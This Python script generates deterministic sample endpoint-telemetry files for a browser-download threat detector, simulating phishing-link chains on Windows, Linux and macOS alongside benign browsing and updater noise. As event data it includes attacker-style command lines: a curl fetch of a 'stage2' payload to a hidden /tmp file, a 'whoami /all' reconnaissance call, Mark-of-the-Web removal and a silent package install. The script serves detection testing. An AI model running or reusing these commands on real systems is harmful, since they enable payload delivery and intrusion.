#!/usr/bin/env python3
"""Writes the shipped native NDJSON samples (deterministic; no randomness).

quickstart.ndjson: one Windows chain (Outlook -> Edge -> .top domain -> download).
sample.ndjson: a true chain per OS (AN0178, AN0179, AN0180 incl. a missing quarantine flag),
follow-on activity, and benign noise (trusted browsing, allowlisted downloads, cache writes,
updaters, a risky visit with no download, a download long after a risky visit).
Run from this folder: python3 make_samples.py
"""
import json
from datetime import datetime, timedelta, timezone

T0 = datetime(2024, 5, 14, 9, 0, 0, tzinfo=timezone.utc)


def ts(sec):
    t = T0 + timedelta(seconds=sec)
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


class Out:
    def __init__(self, host, os):
        self.host, self.os, self.rows = host, os, []

    def ev(self, sec, kind, **fields):
        row = {"time": ts(sec), "host": self.host, "os": self.os, "kind": kind}
        row.update({k: v for k, v in fields.items() if v is not None})
        self.rows.append((sec, row))

    def start(self, sec, proc, image, parent=None, cmd=None, user=None):
        self.ev(sec, "process_start", proc=proc, parent=parent, image=image, command_line=cmd, user=user)

    def end(self, sec, proc):
        self.ev(sec, "process_end", proc=proc)

    def dns(self, sec, proc, query, answers):
        self.ev(sec, "dns_answer", proc=proc, query=query, answers=answers)

    def connect(self, sec, proc, ip, port=443, domain=None):
        self.ev(sec, "connect", proc=proc, dst_ip=ip, dst_port=port, domain=domain)

    def write(self, sec, proc, path, op="create", frm=None, origin=None):
        self.ev(sec, "file_write", proc=proc, path=path, op=op, **{"from": frm}, origin=origin)

    def attr(self, sec, proc, path, attr):
        self.ev(sec, "file_attr", proc=proc, path=path, attr=attr)


EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
DL = "C:\\Users\\alice\\Downloads\\"


def windows_chain(w, with_follow_on):
    w.start(600.0, "{e1}", EDGE, "{outlook}", f'"{EDGE}" --single-argument https://invoice-portal.top/view?id=0514', "CORP\\alice")
    w.start(600.4, "{e1-net}", EDGE, "{e1}", f'"{EDGE}" --type=utility --utility-sub-type=network.mojom.NetworkService')
    w.dns(600.7, "{e1}", "invoice-portal.top", ["203.0.113.77"])
    w.connect(600.9, "{e1-net}", "203.0.113.77")
    w.dns(608.0, "{e1}", "dl.invoice-portal.top", ["203.0.113.78"])
    w.connect(608.3, "{e1-net}", "203.0.113.78")
    w.write(609.0, "{e1}", DL + "Unconfirmed 481516.crdownload")
    w.write(612.0, "{e1}", DL + "Invoice_0514.pdf.exe", "rename", DL + "Unconfirmed 481516.crdownload",
            {"zone": 3, "url": "https://dl.invoice-portal.top/files/Invoice_0514.pdf.exe",
             "referrer": "https://invoice-portal.top/view?id=0514"})
    if with_follow_on:
        w.attr(690.0, "{explorer}", DL + "Invoice_0514.pdf.exe:Zone.Identifier", "motw_removed")
        w.start(700.0, "{payload}", DL + "Invoice_0514.pdf.exe", "{explorer}", f'"{DL}Invoice_0514.pdf.exe"', "CORP\\alice")
        w.start(701.0, "{cmd}", r"C:\Windows\System32\cmd.exe", "{payload}", "cmd.exe /c whoami /all", "CORP\\alice")


def windows(full):
    w = Out("WS-042", "windows")
    w.start(0.0, "{explorer}", r"C:\Windows\explorer.exe", None, r"C:\Windows\Explorer.EXE", "CORP\\alice")
    w.start(5.0, "{outlook}", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "{explorer}", None, "CORP\\alice")
    windows_chain(w, full)
    if not full:
        return w
    # Chrome: ordinary browsing, cache writes, a risky visit with no download, and a download from
    # a trusted site twelve minutes later (weak link: no alert at the default minimum strength).
    w.start(20.0, "{chrome}", CHROME, "{explorer}", f'"{CHROME}"', "CORP\\alice")
    w.start(20.5, "{chrome-net}", CHROME, "{chrome}", f'"{CHROME}" --type=utility --utility-sub-type=network.mojom.NetworkService')
    w.start(21.0, "{crashpad}", CHROME, "{chrome}", f'"{CHROME}" --type=crashpad-handler --url=https://clients2.google.com/cr/report')
    sites = [("www.wikipedia.org", "198.51.100.10"), ("github.com", "198.51.100.11"), ("www.bbc.co.uk", "198.51.100.12"),
             ("docs.python.org", "198.51.100.13"), ("news.ycombinator.com", "198.51.100.14")]
    for i in range(40):
        name, ip = sites[i % len(sites)]
        sec = 30.0 + i * 20
        w.dns(sec, "{chrome}", name, [ip])
        w.connect(sec + 0.2, "{chrome-net}", ip)
        w.write(sec + 1.0, "{chrome}", rf"C:\Users\alice\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_{i:06x}")
    w.dns(120.0, "{chrome}", "cheap-deals.xyz", ["198.51.100.99"])
    w.connect(120.2, "{chrome-net}", "198.51.100.99")
    w.write(840.0, "{chrome}", DL + "python-3.12.3-amd64.exe.crdownload")
    w.write(846.0, "{chrome}", DL + "python-3.12.3-amd64.exe", "rename", DL + "python-3.12.3-amd64.exe.crdownload",
            {"zone": 3, "url": "https://www.python.org/ftp/python/3.12.3/python-3.12.3-amd64.exe"})
    # An allowlisted download: Teams from Microsoft's CDN.
    w.dns(300.0, "{chrome}", "statics.teams.cdn.office.net", ["198.51.100.30"])
    w.connect(300.1, "{chrome-net}", "198.51.100.30")
    w.write(305.0, "{chrome}", DL + "TeamsSetup_c_w_.exe", "create", None,
            {"zone": 3, "url": "https://statics.teams.cdn.office.net/production-windows-x64/TeamsSetup_c_w_.exe"})
    # Updater outside any link lineage, writing an executable to a temp folder.
    w.start(400.0, "{gupdate}", r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", None, "/ua /installsource scheduler", "NT AUTHORITY\\SYSTEM")
    w.connect(400.5, "{gupdate}", "198.51.100.40", 443, "update.googleapis.com")
    w.write(410.0, "{gupdate}", r"C:\Windows\Temp\GUM1234.tmp\GoogleUpdateSetup.exe")
    w.end(420.0, "{gupdate}")
    # Teams writing its own logs in %APPDATA% (a link source, but not download-like).
    w.start(50.0, "{teams}", r"C:\Users\alice\AppData\Local\Microsoft\Teams\current\Teams.exe", "{explorer}", None, "CORP\\alice")
    for i in range(10):
        w.write(60.0 + i * 60, "{teams}", rf"C:\Users\alice\AppData\Roaming\Microsoft\Teams\logs-{i}.txt")
    return w


def linux():
    l = Out("dev-laptop", "linux")
    l.start(0.0, 1500, "/usr/bin/gnome-shell", None, "/usr/bin/gnome-shell", "bob")
    l.start(2.0, 2100, "/usr/lib/thunderbird/thunderbird", 1500, "/usr/lib/thunderbird/thunderbird", "bob")
    l.start(3.0, 1600, "/usr/bin/gnome-terminal-server", 1500, None, "bob")
    l.start(4.0, 1610, "/usr/bin/bash", 1600, "bash", "bob")
    # Benign: apt fetching updates (not a link lineage), an earlier Firefox session browsing trusted sites.
    l.start(100.0, 900, "/usr/bin/apt", 1610, "apt update", "root")
    l.dns(100.2, 900, "deb.debian.org", ["198.51.100.50"])
    l.connect(100.4, 900, "198.51.100.50", 80)
    l.write(103.0, 900, "/var/lib/apt/lists/partial/deb.debian.org_debian_dists_bookworm_InRelease")
    l.end(110.0, 900)
    l.start(200.0, 2200, "/usr/lib/firefox/firefox", 1500, "/usr/lib/firefox/firefox", "bob")
    for i in range(20):
        sec = 210.0 + i * 30
        l.dns(sec, None, "en.wikipedia.org", ["198.51.100.60"])
        l.connect(sec + 0.1, 2200, "198.51.100.60")
        l.write(sec + 0.5, 2200, f"/home/bob/.cache/mozilla/firefox/abcd.default-release/cache2/entries/{i:04X}A1")
    l.end(900.0, 2200)
    # AN0179: Thunderbird -> xdg-open -> Firefox with a URL on a .xyz domain -> .part -> rename -> bash runs it.
    l.start(1200.0, 2300, "/usr/bin/xdg-open", 2100, "xdg-open https://docs-share.xyz/d/q3", "bob")
    l.start(1200.2, 2310, "/usr/lib/firefox/firefox", 2300, "/usr/lib/firefox/firefox https://docs-share.xyz/d/q3", "bob")
    l.dns(1201.0, None, "docs-share.xyz", ["198.51.100.66"])
    l.connect(1201.3, 2310, "198.51.100.66")
    l.write(1205.0, 2310, "/home/bob/Downloads/q3-report.sh.part")
    l.write(1207.0, 2310, "/home/bob/Downloads/q3-report.sh", "rename", "/home/bob/Downloads/q3-report.sh.part")
    l.start(1260.0, 2400, "/usr/bin/bash", 1610, "bash /home/bob/Downloads/q3-report.sh", "bob")
    l.start(1261.0, 2410, "/usr/bin/curl", 2400, "curl -s http://198.51.100.70/stage2 -o /tmp/.s2", "bob")
    return l


def macos():
    m = Out("mbp-7", "macos")
    chrome = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
    helper = ("/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Versions/124.0.6367.119/"
              "Helpers/Google Chrome Helper.app/Contents/MacOS/Google Chrome Helper")
    m.start(0.0, "1:100", "/sbin/launchd", None, None, "root")
    m.start(10.0, "1790:4988", chrome, "1:100", chrome, "carol")
    m.start(10.5, "1834:5021", helper, "1790:4988", f"{helper} --type=utility --utility-sub-type=network.mojom.NetworkService")
    m.start(12.0, "600:700", "/Applications/Slack.app/Contents/MacOS/Slack", "1:100", None, "carol")
    # Benign: Apple software update check, Chrome visiting trusted sites.
    m.start(50.0, "420:430", "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "1:100", None, "root")
    m.connect(50.5, "420:430", "198.51.100.80", 443, "swscan.apple.com")
    for i in range(15):
        m.dns(100.0 + i * 40, "1790:4988", "www.apple.com", ["198.51.100.81"])
        m.connect(100.2 + i * 40, "1834:5021", "198.51.100.81")
    # AN0180: the link from Slack opens in the running Chrome (the click is inferred at the egress).
    m.dns(1800.0, "1790:4988", "payroll-update.monster", ["203.0.113.90"])
    m.connect(1800.3, "1834:5021", "203.0.113.90")
    m.write(1806.0, "1834:5021", "/Users/carol/Downloads/PayrollUpdate.dmg.crdownload")
    m.attr(1806.1, "1834:5021", "/Users/carol/Downloads/PayrollUpdate.dmg.crdownload", "quarantine_set")
    m.write(1809.0, "1834:5021", "/Users/carol/Downloads/PayrollUpdate.dmg", "rename", "/Users/carol/Downloads/PayrollUpdate.dmg.crdownload")
    # A second file from the same site that never gets com.apple.quarantine: QuarantinePolicy.
    m.connect(1850.0, "1834:5021", "203.0.113.90")
    m.write(1851.0, "1834:5021", "/Users/carol/Downloads/PayrollHelper.pkg")
    m.start(1900.0, "2231:5141", "/usr/sbin/installer", "1:100", "installer -pkg /Users/carol/Downloads/PayrollHelper.pkg -target /", "carol")
    m.end(2000.0, "2231:5141")
    return m


def dump(path, outs):
    rows = sorted((r for o in outs for r in o.rows), key=lambda r: r[0])
    with open(path, "w") as f:
        for _, row in rows:
            f.write(json.dumps(row, separators=(",", ":")) + "\n")


dump("quickstart.ndjson", [windows(False)])
dump("sample.ndjson", [windows(True), linux(), macos()])
